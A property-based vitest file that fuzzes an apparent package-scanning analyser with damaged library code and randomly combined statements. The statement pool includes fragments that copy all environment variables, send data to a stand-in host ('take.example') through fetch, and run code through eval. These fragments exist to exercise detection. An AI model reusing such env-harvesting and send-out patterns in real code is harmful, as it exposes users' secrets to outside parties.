import { readFileSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import * as fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { readCodeFile } from '../../src/profiles/code-file.ts';
import { followFlows } from '../../src/profiles/package-flows.ts';

/** Real code of other people, and re-created attacks: what is damaged here was once written by a person or a bundler. */
const published = [
  'node_modules/commander/lib/command.js',
  'node_modules/pg/lib/client.js',
  'node_modules/npm-registry-fetch/lib/index.js',
  'node_modules/pacote/lib/fetcher.js',
  'node_modules/diff/dist/diff.min.js',
];
const maxText = 60_000;
let texts: readonly string[] = [];

beforeAll(async () => {
  const all = await readdir('test/incidents', { recursive: true });
  const own = all
    .filter((path) => /\bnew\b.*\.js$/u.test(path))
    .map((path) => `test/incidents/${path}`);
  own.sort();
  const chosen = own.filter((_, index) => index % 5 === 0);
  texts = [...published, ...chosen].map((path) => readFileSync(path, 'utf8').slice(0, maxText));
});

/** One damage: a stretch of the text is cut out, doubled, moved, or written over with a piece of another file. */
interface Damage {
  readonly kind: 'cut' | 'double' | 'move' | 'graft';
  readonly at: number;
  readonly length: number;
  readonly to: number;
  readonly from: number;
}

const damage: fc.Arbitrary<Damage> = fc.record({
  kind: fc.constantFrom('cut', 'double', 'move', 'graft'),
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  length: fc.integer({ min: 1, max: 400 }),
  to: fc.double({ min: 0, max: 1, noNaN: true }),
  from: fc.nat(1000),
});

function damaged(text: string, list: readonly Damage[]): string {
  return list.reduce((now, { kind, at, length, to, from }) => {
    const start = Math.floor(at * now.length);
    const piece = now.slice(start, start + length);
    const without = now.slice(0, start) + now.slice(start + length);
    const place = Math.floor(to * without.length);
    if (kind === 'cut') return without;
    if (kind === 'double') return now.slice(0, start) + piece + now.slice(start);
    if (kind === 'move') return without.slice(0, place) + piece + without.slice(place);
    const other = texts[from % texts.length] ?? '';
    const begin = Math.floor(to * other.length);
    return now.slice(0, start) + other.slice(begin, begin + length) + now.slice(start);
  }, text);
}

/** Everything that a package of these files says, as text. */
function told(files: ReadonlyMap<string, string>): string {
  const read = new Map([...files].map(([path, text]) => [path, readCodeFile(path, text)]));
  const resolve = (_: string, specifier: string): string | undefined =>
    [...read.keys()].find((path) => specifier.endsWith(path));
  return JSON.stringify([[...read], followFlows(read, resolve)]);
}

describe('damaged code of other people', () => {
  it('is looked at without a throw, and always with the same answer', () => {
    expect(texts.length).toBeGreaterThan(12);
    let parsed = 0;
    fc.assert(
      fc.property(fc.nat(1000), fc.array(damage, { minLength: 1, maxLength: 6 }), (which, list) => {
        const text = damaged(texts[which % texts.length] ?? '', list);
        const files = new Map([['index.js', text]]);
        const first = told(files);
        if (!first.includes('"parse-failed"')) parsed += 1;
        return first === told(files);
      }),
      { numRuns: 60 },
    );
    // Damage that no parser gets over would prove nothing.
    expect(parsed).toBeGreaterThan(5);
  });
});

/** Statements that lead data in circles, out of files and back, through each other. */
const statements = fc.constantFrom(
  'a = b;',
  'b = a;',
  'a.push(b, a);',
  'b = { ...a, x: b };',
  'function f(p, q) { return p(q, f); }',
  'function g(p) { return f(g, p) ?? p; }',
  'a = f(g, b);',
  'class C { constructor(x) { this.x = x; } m(y) { this.x = this.m(y); this.y.push(this); return this.x; } }',
  'a = new C(b).m(a);',
  'for (const k in process.env) a[k] = process.env[k];',
  'for (const one of a) b.set(one, a);',
  'a.on("e", (v) => { b = v; a.emit("e", b); });',
  'import { f as h } from "./index.js";',
  'import * as all from "./index.js";',
  'export { f, a as h };',
  'h(a, b); all.f(b); module.exports = { h, ...all };',
  'fetch(a, { method: "POST", body: b, headers: a });',
  'fetch("https://take.example/" + a, b);',
  'eval(b); new Function(a)();',
  'new Promise((r) => r(a)).then((v) => fetch(v, v));',
  'Sentry.init({ dsn: a, initialScope: b });',
  'transport.onmessage = f; process.stdout.write = g;',
  'server.tool("t", "d", {}, f); server.tool("u", g);',
  'new Image().src = a; import("./" + a);',
);

describe('code that leads in circles', () => {
  it('ends, and always with the same answer', () => {
    let flows = 0;
    fc.assert(
      fc.property(
        fc.array(statements, { maxLength: 24 }),
        fc.array(statements, { maxLength: 12 }),
        (one, two) => {
          const files = new Map([
            ['index.js', `let a = [], b = {};\n${one.join('\n')}`],
            ['other.js', `import { f, g } from './index.js';\nlet a, b;\n${two.join('\n')}`],
          ]);
          const first = told(files);
          if (first.includes('"data.flow"')) flows += 1;
          return first === told(files);
        },
      ),
      { numRuns: 150 },
    );
    expect(flows).toBeGreaterThan(10);
  });
});
